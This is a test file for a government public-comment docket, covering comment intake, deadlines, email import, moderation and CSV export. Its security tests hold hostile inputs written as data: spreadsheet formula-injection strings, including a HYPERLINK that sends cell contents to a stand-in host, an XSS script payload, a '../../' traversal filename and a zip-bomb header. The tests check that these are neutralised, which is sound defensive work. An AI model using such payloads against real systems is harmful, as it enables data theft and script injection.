import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { board, office, officerOf, openPlanWorld, type PlanWorld } from './plan-world.ts';

const cycle = '2025-2026';
const messages = join(import.meta.dirname, '..', 'golden', 'mail');
let world: PlanWorld;

beforeEach(async () => {
  world = await openPlanWorld('2024-07-24T14:00:00Z');
  await post(`/cycles/${cycle}/phases`, { phase: 1, comments_until: '2024-08-24' });
});
afterEach(() => world.close());

const post = (path: string, body: unknown, as = office) =>
  world.http('POST', `/api/v1/plan${path}`, { body, as });
const get = (path: string) => world.http('GET', `/api/v1/plan${path}`);
const later = (ms: number) => world.moveTo(new Date(Date.parse(world.clock.now()) + ms).toISOString());

/** Comments as a person does: gets the form, writes for some seconds, sends. */
async function comment(body: object, as?: Parameters<typeof post>[2]) {
  const { ticket } = (await get('/comments/form')).json;
  later(20_000);
  return world.http('POST', '/api/v1/plan/comments', { body: { ticket, ...body }, ...(as ? { as } : {}) });
}
const importMail = (source: string | Uint8Array, name = 'comment.eml') =>
  world.http('POST', `/api/v1/plan/comments/mail?filename=${name}`, {
    body: source,
    as: office,
    type: 'message/rfc822',
  });

const letter = (
  over: { from?: string; subject?: string; date?: string; received?: string; body?: string } = {},
) =>
  [
    `Received: from mx.example.gov by plan.example.gov; ${over.received ?? 'Thu, 1 Aug 2024 10:00:00 -0400'}`,
    `From: ${over.from ?? 'Ada Resident <ada@town.example>'}`,
    'To: plan@example.gov',
    `Subject: ${over.subject ?? 'Principle 9'}`,
    `Date: ${over.date ?? 'Thu, 1 Aug 2024 09:59:00 -0400'}`,
    `Message-ID: <${Math.abs(hash(JSON.stringify(over)))}@town.example>`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    over.body ?? 'Managing once also means publishing once. A dataset in two places is worse than none.',
    '',
  ].join('\r\n');
const hash = (text: string) =>
  [...text].reduce((sum, character) => (sum * 31 + character.charCodeAt(0)) | 0, 7);

test('row-18 anyone comments on a named item without an account; an agency comment carries its agency; both stand in one docket', async () => {
  const own = await comment({
    item: 'manage-once-use-many',
    body: 'To the extent possible does all the work here.',
  });
  expect([own.status, own.json]).toMatchObject([200, { number: 1, late: false, state: 'shown' }]);
  const theirs = await comment(
    {
      item: 'manage-once-use-many',
      body: 'Wage records cannot be reused without an agreement.',
      agency: 'DOL',
    },
    officerOf('DOL'),
  );
  expect(theirs.json.number).toBe(2);
  // Nobody can speak for an agency without being of it.
  const claimed = await comment({ item: 'ethical-use', body: 'As the agency I say so.', agency: 'DOL' });
  expect([claimed.status, claimed.json.code]).toEqual([422, 'plan.unfit']);
  // To have signed in is not enough: not without a role, not by a role of the state, not by one of another agency.
  for (const as of [{ ...board, roles: [] }, board, officerOf('DOT')]) {
    const asked = await comment({ item: 'ethical-use', body: 'As the agency I say so.', agency: 'DOL' }, as);
    expect([as.roles, asked.status, asked.json.code]).toEqual([as.roles, 422, 'plan.unfit']);
  }
  const docket = (await get('/comments')).json;
  expect(
    docket.comments.map((line: { number: number; agency: string | null }) => [line.number, line.agency]),
  ).toEqual([
    [2, 'DOL'],
    [1, null],
  ]);
  expect((await get('/comments?from=agency')).json.total).toBe(1);
  expect((await get('/comments?from=public')).json.comments[0].number).toBe(1);
  expect((await get('/comments?item=ethical-use')).json.total).toBe(0);
  expect((await get('/comments?contains=WAGE')).json.comments[0].number).toBe(2);
  const page = await world.http('GET', '/plan/comments?item=manage-once-use-many', { accept: 'text/html' });
  expect(page.status).toBe(200);
  expect(page.text).toContain('does all the work here');
  const csv = (await get('/comments.csv')).text.trimEnd().split('\r\n');
  expect(csv).toHaveLength(3);
});

test('row-19 the form closes at the deadline to the minute; a late comment is kept and marked; the page says the time left', async () => {
  world.moveTo('2024-08-25T01:59:30.000Z');
  expect((await get('/comments/form')).json).toMatchObject({ open: true, left: '2 hours' });
  world.moveTo('2024-08-25T03:44:00.000Z');
  expect((await get('/comments/form')).json.left).toBe('15 minutes');
  const { ticket } = (await get('/comments/form')).json;
  const lastForm = (await get('/comments/form')).json.ticket;
  // 11:59 pm Eastern is still on time; a minute later is not.
  world.moveTo('2024-08-25T03:59:59.000Z');
  const inTime = await world.http('POST', '/api/v1/plan/comments', {
    body: { ticket, body: 'Still on time, at 11:59 pm.' },
  });
  expect(inTime.json).toMatchObject({ late: false });
  world.moveTo('2024-08-25T04:00:00.000Z');
  expect((await get('/comments/form')).json).toMatchObject({ open: false, left: null });
  // The form was open when it closed: nothing that was typed is lost.
  const late = await world.http('POST', '/api/v1/plan/comments', {
    body: { ticket: lastForm, body: 'A minute too late, sorry.' },
  });
  expect([late.status, late.json]).toMatchObject([200, { late: true, state: 'shown' }]);
  expect(
    (await get('/comments?late=true')).json.comments.map((line: { number: number }) => line.number),
  ).toEqual([2]);
});

test('row-24 every comment ends with an answer, a reason and a text; publishing waits for the last; the commenter is told', async () => {
  await comment({ item: 'ethical-use', body: 'Say always.', email: 'Ada@Town.example', name: 'Ada' });
  await comment({ body: 'I have no address.' });
  const bare = await post('/comments/1/answer', { disposition: 'adopted', reason: 'We say so now.' });
  expect([bare.status, bare.json.code]).toEqual([422, 'plan.unfit']);
  expect(bare.json.detail).toContain('Say which text changed');
  const revision = (await get(`/cycles/${cycle}/draft`)).json.items.find(
    (one: { item: string }) => one.item === 'ethical-use',
  ).revision;
  await post(`/cycles/${cycle}/items/ethical-use`, { revision, words: 'Always employ ethical standards.' });
  const answered = await post('/comments/1/answer', {
    disposition: 'adopted',
    reason: 'We say so now.',
    change: 'ethical-use',
  });
  expect(answered.json).toMatchObject({
    disposition: 'adopted',
    reason: 'We say so now.',
    change: { item: 'ethical-use', words: 'Always employ ethical standards.' },
  });
  const mail = await world.app.store.read.selectFrom('mail_message').selectAll().execute();
  expect(mail).toHaveLength(1);
  expect(mail[0]).toMatchObject({
    recipient: 'ada@town.example',
    topic: 'plan.comment-answered',
    state: 'waiting',
  });
  expect(JSON.parse(mail[0]!.content).parts[0].links[0].path).toBe(`/plan/comments/1?cycle=${cycle}`);
  // The rest of the way to adoption is another test's: here the count of comments without an answer stops it.
  const next = async () => (await get(`/cycles/${cycle}`)).json.next;
  world.moveTo('2024-09-02T14:00:00Z');
  await post(`/cycles/${cycle}/phases/1/close`, {});
  const { adoptionProblems } = await import('../../src/areas/plan/cycle/readiness.ts');
  const problems = () => adoptionProblems(world.app.store.read, world.app, cycle);
  expect((await problems()).filter((line) => line.includes('comment'))).toEqual(['1 comment has no answer.']);
  await post('/comments/2/answer', { disposition: 'out-of-scope', reason: 'The legislature decides this.' });
  expect((await problems()).filter((line) => line.includes('comment'))).toEqual([]);
  expect((await next()).move).toBe('open phase');
  // No address is ever public.
  for (const path of ['/comments', '/comments/1', '/comments.csv'])
    expect((await get(path)).text.toLowerCase()).not.toContain('town.example');
});

test('row-24 of two who answer or edit at once, the second sees what the first wrote, and nothing is replaced unseen', async () => {
  await comment({ item: 'ethical-use', body: 'Say always.' });
  const first = await post('/comments/1/answer', {
    disposition: 'not-adopted',
    reason: 'It says so already.',
  });
  expect(first.status).toBe(200);
  const theirs = { disposition: 'out-of-scope', reason: 'The legislature decides this.' };
  const second = await post('/comments/1/answer', theirs);
  expect([second.status, second.json.code]).toEqual([409, 'plan.answered-meanwhile']);
  expect(second.json.detail).toContain('“Noted, no change: It says so already.”, by R. Calloway.');
  expect((await get('/comments/1')).json).toMatchObject({ reason: 'It says so already.' });
  // Whoever has read it may replace it: both stay on record. What they read must be what stands.
  const replaces = first.json.disposedAt;
  later(1_000);
  expect((await post('/comments/1/answer', { ...theirs, replaces })).json).toMatchObject(theirs);
  expect((await post('/comments/1/answer', { ...theirs, replaces })).status).toBe(409);
  expect((await get('/comments/1')).json.acts.map(({ act }: { act: string }) => act)).toEqual([
    'Noted, no change',
    'For another body',
  ]);

  const draft = async () => (await get(`/cycles/${cycle}/draft`)).json;
  const { revision } = (await draft()).items.find(({ item }: { item: string }) => item === 'ethical-use');
  const { json: idea } = await post(`/cycles/${cycle}/suggestions`, {
    item: 'ethical-use',
    words: 'Never mind ethics.',
    reason: 'Shorter.',
  });
  await post(`/cycles/${cycle}/items/ethical-use`, { revision, words: 'Always employ ethical standards.' });
  for (const [path, body] of [
    [`/cycles/${cycle}/items/ethical-use`, { revision, words: 'Mine.' }],
    [`/suggestions/${idea.suggestion}/decide`, { revision, decision: 'accept', reason: 'Agreed.' }],
    [
      `/cycles/${cycle}/merge`,
      { revision, into: 'ethical-use', from: ['common-data-elements'], words: 'Mine.' },
    ],
  ] as const)
    expect((await post(path, body)).json, path).toMatchObject({
      status: 409,
      code: 'plan.edited-meanwhile',
    });
  expect((await draft()).items.find(({ item }: { item: string }) => item === 'ethical-use').words).toBe(
    'Always employ ethical standards.',
  );

  const aim = (await draft()).objectives[0];
  const write = (title: string, seen: string) =>
    post(`/cycles/${cycle}/objectives/${aim.objective}`, {
      goal: aim.goal,
      title,
      measure: aim.measure,
      revision: seen,
    });
  expect((await write('Written first', aim.revision)).status).toBe(200);
  for (const seen of [aim.revision, ''])
    expect((await write('Written second', seen)).json).toMatchObject({
      code: 'plan.edited-meanwhile',
      detail: expect.stringContaining(aim.objective),
    });
  expect((await draft()).objectives[0].title).toBe('Written first');
});

test('row-25 a general comment, or one on a later matter, is taken, marked outside the focus and carried to its phase', async () => {
  const general = await comment({ body: 'The plan should be shorter as a whole.' });
  expect(general.json).toMatchObject({ carriedTo: 3 });
  const objective = await comment({ item: 'posts-filled', body: 'All posts should be filled by spring.' });
  expect(objective.json).toMatchObject({ carriedTo: 2 });
  expect(
    (await comment({ item: 'ethical-use', body: 'About a principle, as asked.' })).json.carriedTo,
  ).toBeNull();
});

test('row-29 an email lands in the docket with its date and attachment; the same by form and email is joined and both are kept', async () => {
  const body = 'Managing once also means publishing once. A dataset in two places is worse than none.';
  await comment({ item: 'manage-once-use-many', body, email: 'ada@town.example', name: 'Ada Resident' });
  world.moveTo('2024-08-02T14:00:00Z');
  expect((await importMail(letter({ body }))).json).toMatchObject({
    messages: 1,
    comments: 1,
    duplicates: 1,
  });
  const docket = (await get('/comments')).json;
  expect(docket.total).toBe(2);
  expect(docket.comments[0]).toMatchObject({
    number: 2,
    channel: 'email',
    item: 'manage-once-use-many',
    receivedAt: '2024-08-01T14:00:00.000Z',
    disposition: 'duplicate',
    duplicateOf: 1,
  });
  // What was sent twice is answered when the first is, not by having been sent twice: of two, none, then both.
  const answered = async () => (await get('/comments')).json.answered;
  expect(await answered()).toBe(0);
  const { measures } = await import('../../src/areas/plan/measures.ts');
  const share = async () => {
    const context = world.app.contextFor({ actor: office, purpose: 'test' });
    const measure = measures.find(({ id }) => id === 'plan.comments-answered')!;
    return (await measure.records(context, {})).filter(({ counts }) => counts).length;
  };
  expect(await share()).toBe(0);
  const before = world.clock.now();
  later(60_000);
  await post('/comments/1/answer', { disposition: 'not-adopted', reason: 'It says enough.' });
  expect([await answered(), await share()]).toEqual([2, 2]);
  expect((await get('/comments?answer=answered')).json.total).toBe(2);
  world.moveTo(before);
  // The same words from someone else are another voice.
  expect((await importMail(letter({ body, from: 'Ben <ben@town.example>' }))).json).toMatchObject({
    comments: 1,
    duplicates: 0,
  });
  // Taking the same message over again changes nothing.
  expect((await importMail(letter({ body }))).json).toMatchObject({ comments: 0, known: 1 });

  const pdf = await importMail(readFileSync(join(messages, 'attachment_pdf.eml')));
  expect(pdf.json).toMatchObject({ comments: 1 });
  const [found] = (await get('/comments')).json.comments;
  expect(found.attachments).toMatchObject([{ name: 'broken.pdf', mediaType: 'application/pdf' }]);
  const file = await get(`/attachments/${found.attachments[0].id}`);
  expect([file.status, file.headers.get('content-type'), file.headers.get('x-content-type-options')]).toEqual(
    [200, 'application/pdf', 'nosniff'],
  );
  expect(file.headers.get('content-disposition')).toContain('attachment');
});

test('row-29 messages with odd character sets and broken headers are read or named, never lost and never a failure', async () => {
  // Expected words: those which another mail reader gave (test/golden/mail/README.md).
  const expected: Record<string, [string, string]> = {
    'japanese_shift_jis.eml': ['test', 'あいうえお'],
    'ks_c_5601-1987.eml': ['test', '스티해'],
    'raw_email_double_at_in_header.eml': ['NOTE: 한국말로 하는 것', '대부분의 마찬가지로'],
    'utf8_headers.eml': ['Säying Hello', 'body'],
    'basic_email.eml': ['Testing 123', 'Plain email.'],
  };
  for (const name of readdirSync(messages).filter((file) => file.endsWith('.eml'))) {
    const done = await importMail(readFileSync(join(messages, name)), name);
    expect([name, done.status]).toEqual([name, 200]);
    const { comments, bounces, refused, automatic } = done.json;
    expect([name, comments + bounces + automatic + refused.length]).toEqual([name, 1]);
    const wanted = expected[name];
    if (wanted) {
      const [line] = (await get('/comments?limit=1')).json.comments;
      expect([name, line.subject, line.body.slice(0, wanted[1].length)]).toEqual([name, ...wanted]);
    }
  }
  const kept = await world.app.store.read
    .selectFrom('plan_attachment')
    .select(['sha256'])
    .where('media_type', '=', 'message/rfc822')
    .execute();
  expect(new Set(kept.map(({ sha256 }) => sha256)).size).toBe((await get('/comments')).json.total);
});

test('row-29 a mailbox holds several messages, quoted lines stay text, and a claimed date decides nothing', async () => {
  const one = letter({ body: 'First message of the mailbox.\r\n>From the town we hear little.' });
  const forged = letter({
    from: 'Eve <eve@town.example>',
    date: 'Mon, 1 Jul 2024 09:00:00 -0400',
    received: 'Mon, 26 Aug 2024 09:00:00 -0400',
    body: 'I claim to have written in July, before the deadline.',
  });
  world.moveTo('2024-08-26T15:00:00Z');
  const box = `From a@b.example Thu Aug  1 10:00:00 2024\r\n${one}\r\nFrom c@d.example Mon Aug 26 10:00:00 2024\r\n${forged}\r\n`;
  expect((await importMail(box, 'box.mbox')).json).toMatchObject({ messages: 2, comments: 2 });
  const [late, first] = (await get('/comments')).json.comments;
  expect(first.body).toContain('From the town we hear little.');
  expect(first.body).not.toContain('>From');
  expect([first.late, late.late, late.receivedAt]).toEqual([false, true, '2024-08-26T13:00:00.000Z']);
});

test('a zip that would unfold to gigabytes is kept as the bytes it is, and what is too large is named', async () => {
  const zip = Buffer.from('504b0304140000000800', 'hex').toString('base64');
  const mail = [
    letter({ body: 'x' })
      .split('\r\n')
      .filter((line) => !line.startsWith('Content-Type'))
      .slice(0, 6)
      .join('\r\n'),
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/plain',
    '',
    'See the file.',
    '--b',
    'Content-Type: application/zip',
    'Content-Disposition: attachment; filename="../../bomb.zip"',
    'Content-Transfer-Encoding: base64',
    '',
    zip,
    '--b--',
    '',
  ].join('\r\n');
  expect((await importMail(mail)).json).toMatchObject({ comments: 1 });
  const [line] = (await get('/comments')).json.comments;
  expect(line.attachments).toMatchObject([{ name: 'bomb.zip', bytes: 10 }]);
  const huge = await importMail(`${letter()}\r\n${'x'.repeat(26 * 1024 * 1024)}`);
  expect(huge.json.refused).toEqual([{ message: 1, because: 'it is larger than 25 MB' }]);
});

test('a comment of 10 MB is refused in words, and nothing is stored', async () => {
  const answer = await comment({ body: 'x'.repeat(10 * 1024 * 1024) });
  expect([413, 422, 400]).toContain(answer.status);
  expect(answer.text).not.toContain('xxxxxxxxxx');
  expect((await get('/comments')).json.total).toBe(0);
});

test('robots are stopped without a puzzle: too fast, twice, without a ticket, or into the field nobody sees', async () => {
  const { ticket } = (await get('/comments/form')).json;
  const send = (body: object) => world.http('POST', '/api/v1/plan/comments', { body });
  expect((await send({ ticket, body: 'At once, as programs do.' })).json.code).toBe('plan.comment-ticket');
  expect((await send({ ticket: 'a.b.c', body: 'A ticket of my own.' })).json.code).toBe(
    'plan.comment-ticket',
  );
  later(5_000);
  expect((await send({ ticket, body: 'After some seconds.' })).status).toBe(200);
  expect((await send({ ticket, body: 'The same ticket again.' })).json.code).toBe('plan.comment-ticket');
  const trapped = await comment({ body: 'Buy now.', website: 'http://spam.example' });
  expect(trapped.json.state).toBe('held');
  // Held, not lost: its words are not shown until a person has looked, and the docket says why.
  const [held] = (await get('/comments')).json.comments;
  expect([held.body, held.stateReason]).toEqual([null, 'A field that people do not see was filled in']);
  expect(
    (await post('/comments/2/answer', { disposition: 'out-of-scope', reason: 'Not yet.' })).json.code,
  ).toBe('plan.illegal-move');
  await post('/comments/2/moderate', { act: 'show', reason: 'A person, after all.' });
  expect((await get('/comments/2')).json.body).toBe('Buy now.');
});

test('abuse is withheld with a public reason and a record; what was withheld can be shown again', async () => {
  await comment({ body: 'Words that are abuse of a named person.' });
  const hidden = await post('/comments/1/moderate', { act: 'hide', reason: 'It insults a named person.' });
  expect(hidden.json).toMatchObject({ state: 'hidden', body: null, disposition: 'out-of-scope' });
  expect((await get('/comments/1')).json.acts).toMatchObject([
    { act: 'Words withheld', reason: 'It insults a named person.', by: 'R. Calloway' },
  ]);
  expect((await get('/comments?contains=abuse')).json.total).toBe(0);
  await post('/comments/1/moderate', { act: 'show', reason: 'On appeal.' });
  expect((await get('/comments/1')).json).toMatchObject({ state: 'shown', disposition: null });
});

test('attack: words that a spreadsheet would carry out are written so that it does not', async () => {
  for (const body of ['=HYPERLINK("http://x.example/"&A1)', '+1+cmd|x', '@SUM(A1)', '-2+3', 'Plain words.'])
    await comment({ body, name: '=1+1' });
  const lines = (await get('/comments.csv')).text.trimEnd().split('\r\n').slice(1);
  expect(lines).toHaveLength(5);
  // No cell, quoted or not, begins with a sign that starts a formula.
  for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
  expect(lines.join()).toContain(`"'=HYPERLINK(""http://x.example/""&A1)"`);
  expect(lines.join()).toContain('Plain words.');
});

test('comments are shown escaped', async () => {
  await comment({ body: '<script>alert(1)</script><img src=x onerror=alert(1)>', name: '<b>Eve</b>' });
  const page = (await world.http('GET', '/plan/comments', { accept: 'text/html' })).text;
  expect(page).toContain('&lt;script&gt;');
  expect(page).not.toContain('<script>alert');
  expect(page).not.toContain('<b>Eve');
});

test('comments that say much the same are shown together, with the words they share', async () => {
  await comment({ body: 'Publish the parcel files of every town in one place please.', name: 'A' });
  await comment({ body: 'Please publish parcel files of all towns in one place.', name: 'B' });
  await comment({ body: 'School buses are late every morning in our street.', name: 'C' });
  const { groups } = (await get('/comment-groups')).json;
  expect(groups.map((group: { numbers: number[] }) => group.numbers)).toEqual([[1, 2]]);
  expect(groups[0].shared).toContain('parcel');
});

test('mail of ours that came back is marked, and an automatic answer is no comment', async () => {
  await comment({ item: 'ethical-use', body: 'Say always, please.', email: 'ada@town.example' });
  await post('/comments/1/answer', { disposition: 'not-adopted', reason: 'It says enough.' });
  const [{ id }] = (await world.app.store.read.selectFrom('mail_message').select('id').execute()) as [
    { id: string },
  ];
  await world.app.store.write((tx) =>
    tx.updateTable('mail_message').set({ state: 'sent' }).where('id', '=', id).execute(),
  );
  const report = `From: MAILER-DAEMON@mx.example\r\nSubject: Undelivered\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=r\r\n\r\n--r\r\nContent-Type: message/delivery-status\r\n\r\nFinal-Recipient: rfc822; x\r\nStatus: 5.1.1\r\n\r\n--r\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <${id}@plan.example.gov>\r\n\r\n--r--\r\n`;
  expect((await importMail(report)).json).toMatchObject({ bounces: 1, comments: 0 });
  const [row] = await world.app.store.read.selectFrom('mail_message').select(['state', 'problem']).execute();
  expect(row).toEqual({ state: 'bounced', problem: 'came back, status 5.1.1' });
  const away = letter({ subject: 'Out of office' }).replace('From:', 'Auto-Submitted: auto-replied\r\nFrom:');
  expect((await importMail(away)).json).toMatchObject({ automatic: 1, comments: 0 });
});
